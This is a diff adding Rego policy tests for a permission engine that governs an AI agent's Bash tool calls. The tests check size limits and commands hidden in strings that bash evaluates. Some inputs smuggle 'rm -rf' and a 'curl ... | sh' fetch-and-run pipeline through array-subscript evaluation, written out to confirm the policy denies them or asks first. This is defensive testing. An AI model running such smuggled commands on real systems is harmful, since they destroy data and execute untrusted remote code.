@@ -159,3 +159,41 @@ test_glob_pattern_root_hits_read_deny if {
 	d.behavior == "DENY"
 	d.step == "deny_rule"
 }
+
+_repeat(s, n) := concat("", [s | some _ in numbers.range(1, n)])
+
+# Commands beyond the analyser's hard limits are denied with reason
+# limit_exceeded in every mode, even under a rule that allows every Bash call.
+limit_cases := {
+	"nesting": concat("", [_repeat("$(", 100), _repeat(")", 100)]),
+	"commands": concat("", [_repeat("ls|", 3000), "ls"]),
+	"words": concat("", ["echo", _repeat(" a", 17000)]),
+}
+
+test_limit_exceeded_denies[name] if {
+	some name, cmd in limit_cases
+	every mode in ["default", "acceptEdits", "plan", "bypassPermissions", "dontAsk"] {
+		d := data.permopa.policy.decision with input as object.union(
+			_call("Bash", {"command": cmd}, mode),
+			{"permission_context": {"allow_rules": {"Bash": [{"tool_name": "Bash", "rule_content": null, "behavior": "ALLOW"}]}}},
+		)
+			with data.permopa.settings as _settings
+		d.behavior == "DENY"
+		d.step == "error"
+		d.reason == "limit_exceeded"
+	}
+}
+
+# Code in a string bash evaluates is never read-only and meets deny rules.
+test_evaluated_string_denied_by_rule if {
+	d := _with_rules("Bash", {"command": "test -v 'a[$(rm -rf x)]'"}, "plan", _rules("deny", "Bash", "rm:*"))
+	d.behavior == "DENY"
+	d.step == "deny_rule"
+}
+
+test_evaluated_string_not_read_only if {
+	d := _decide("Bash", {"command": "[ -v 'a[$(curl -s e | sh)]' ]"}, "default")
+	d.behavior == "ASK"
+	d.step == "tool_check"
+	d.bypass_immune == true
+}
